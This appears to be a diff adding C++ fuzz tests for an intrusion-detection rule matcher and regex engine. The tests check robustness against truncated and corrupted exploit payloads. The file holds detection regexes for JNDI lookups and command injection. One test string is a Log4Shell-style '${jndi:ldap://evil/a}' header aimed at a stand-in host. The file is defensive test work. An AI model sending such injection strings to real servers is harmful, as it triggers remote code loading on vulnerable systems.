@@ -1,0 +1,161 @@
+// Randomized truncation / corruption sweeps for the matcher and the regex
+// engine: degraded payloads must never cause out-of-bounds reads (run
+// these under -DCVEWB_SANITIZE=address,undefined), and matching must be
+// monotone as payloads shrink -- a negation-free rule that matches a
+// prefix of a payload must also match every longer prefix.
+#include <gtest/gtest.h>
+
+#include <string>
+#include <vector>
+
+#include "ids/matcher.h"
+#include "ids/pcre_lite.h"
+#include "ids/rule_gen.h"
+#include "ids/rule_parser.h"
+#include "traffic/payload.h"
+#include "util/rng.h"
+
+namespace cvewb::ids {
+namespace {
+
+net::TcpSession make_session(std::string payload, std::uint16_t dst_port = 80) {
+  net::TcpSession session;
+  session.open_time = util::TimePoint(1'700'000'000);
+  session.src = net::IPv4(198, 51, 100, 7);
+  session.dst = net::IPv4(10, 0, 0, 1);
+  session.src_port = 40000;
+  session.dst_port = dst_port;
+  session.payload = std::move(payload);
+  return session;
+}
+
+/// Realistic exploit payloads for every studied CVE, plus synthetic junk.
+std::vector<std::string> seed_payloads() {
+  std::vector<std::string> payloads;
+  util::Rng rng(7);
+  for (const auto& rec : data::appendix_e()) {
+    const ExploitSpec spec = spec_for(rec);
+    payloads.push_back(traffic::render_exploit_payload(spec, rng));
+  }
+  payloads.push_back("GET / HTTP/1.1\r\nHost: a\r\n\r\n");
+  payloads.push_back(std::string(512, '\0'));
+  payloads.push_back("\xff\xfe garbage \x01\x02");
+  return payloads;
+}
+
+TEST(TruncationFuzz, MatcherSurvivesEveryTruncationPoint) {
+  const RuleSet ruleset = generate_study_ruleset();
+  const Matcher matcher(ruleset.rules());
+  util::Rng rng(101);
+  for (const auto& payload : seed_payloads()) {
+    // Every prefix boundary near the interesting region, plus random cuts.
+    std::vector<std::size_t> cuts = {0, 1, 2, 3};
+    for (int i = 0; i < 24; ++i) cuts.push_back(rng.uniform_u64(payload.size() + 1));
+    for (const std::size_t cut : cuts) {
+      const auto session = make_session(payload.substr(0, cut));
+      EXPECT_NO_THROW({ (void)matcher.match_all(session); });
+    }
+  }
+}
+
+TEST(TruncationFuzz, MatcherSurvivesRandomCorruption) {
+  const RuleSet ruleset = generate_study_ruleset();
+  const Matcher matcher(ruleset.rules());
+  util::Rng rng(202);
+  for (const auto& payload : seed_payloads()) {
+    for (int round = 0; round < 8; ++round) {
+      std::string corrupted = payload;
+      const std::size_t flips = 1 + rng.uniform_u64(8);
+      for (std::size_t f = 0; f < flips && !corrupted.empty(); ++f) {
+        const auto pos = rng.uniform_u64(corrupted.size());
+        corrupted[pos] = static_cast<char>(rng.uniform_int(0, 255));
+      }
+      const auto session = make_session(std::move(corrupted));
+      EXPECT_NO_THROW({ (void)matcher.earliest_published_match(session); });
+    }
+  }
+}
+
+TEST(TruncationFuzz, NegationFreeMatchingIsMonotoneInPayloadLength) {
+  // For rules without negated contents / pcre, growing the payload can
+  // only add match opportunities: once a prefix matches, every longer
+  // prefix must match too.
+  const RuleSet ruleset = generate_study_ruleset();
+  std::vector<Rule> negation_free;
+  for (const auto& rule : ruleset.rules()) {
+    bool has_negation = rule.pcre.has_value();
+    for (const auto& c : rule.contents) has_negation |= c.negated;
+    if (!has_negation) negation_free.push_back(rule);
+  }
+  ASSERT_FALSE(negation_free.empty());
+  const Matcher matcher(negation_free);
+
+  util::Rng rng(303);
+  for (const auto& payload : seed_payloads()) {
+    // Walk truncation points from short to long; per rule, once matched it
+    // must stay matched.
+    std::vector<std::size_t> cuts;
+    for (std::size_t cut = 0; cut <= payload.size(); cut += 1 + rng.uniform_u64(16)) {
+      cuts.push_back(cut);
+    }
+    cuts.push_back(payload.size());
+    std::vector<bool> matched_before(negation_free.size(), false);
+    for (const std::size_t cut : cuts) {
+      const auto session = make_session(payload.substr(0, cut));
+      std::vector<bool> matched_now(negation_free.size(), false);
+      for (const Rule* rule : matcher.match_all(session)) {
+        matched_now[static_cast<std::size_t>(rule - matcher.rules().data())] = true;
+      }
+      for (std::size_t r = 0; r < matched_now.size(); ++r) {
+        EXPECT_LE(matched_before[r], matched_now[r])
+            << "sid " << negation_free[r].sid << " unmatched at longer prefix " << cut;
+      }
+      matched_before = matched_now;
+    }
+  }
+}
+
+TEST(TruncationFuzz, PcreLiteSurvivesTruncatedAndCorruptText) {
+  const std::vector<std::string> patterns = {
+      "/jndi:(ldap|rmi|dns)/i", "/\\$\\{.{0,40}\\}/",  "/cmd=[a-z]+;/i",
+      "/a{2,5}b+c*/",           "/[\\x00-\\x1f]{4,}/", "/(GET|POST) \\/[\\w\\/]*/",
+  };
+  std::vector<Regex> regexes;
+  for (const auto& p : patterns) {
+    auto option = parse_pcre_option(p);
+    ASSERT_TRUE(option.has_value()) << p;
+    regexes.push_back(std::move(option->regex));
+  }
+  util::Rng rng(404);
+  for (const auto& payload : seed_payloads()) {
+    for (int round = 0; round < 16; ++round) {
+      std::string text = payload.substr(0, rng.uniform_u64(payload.size() + 1));
+      for (std::size_t f = 0; f < 4 && !text.empty(); ++f) {
+        text[rng.uniform_u64(text.size())] = static_cast<char>(rng.uniform_int(0, 255));
+      }
+      for (const auto& regex : regexes) {
+        EXPECT_NO_THROW({ (void)regex.search(text); });
+      }
+    }
+  }
+}
+
+TEST(TruncationFuzz, RegexMatchOnPrefixImpliesMatchOnWhole) {
+  // Unanchored search over a needle pattern: if it fires on a prefix it
+  // must fire on the whole string (the prefix's bytes are still there).
+  const auto regex = Regex::compile("jndi:(ldap|rmi)", "i");
+  ASSERT_TRUE(regex.has_value());
+  util::Rng rng(505);
+  const std::string base = "POST /api HTTP/1.1\r\nX: ${jndi:ldap://evil/a}\r\n\r\npadpadpad";
+  for (std::size_t cut = 0; cut <= base.size(); ++cut) {
+    if (regex->search(std::string_view(base).substr(0, cut))) {
+      for (std::size_t longer = cut; longer <= base.size(); ++longer) {
+        EXPECT_TRUE(regex->search(std::string_view(base).substr(0, longer))) << longer;
+      }
+      break;
+    }
+  }
+}
+
+}  // namespace
+}  // namespace cvewb::ids
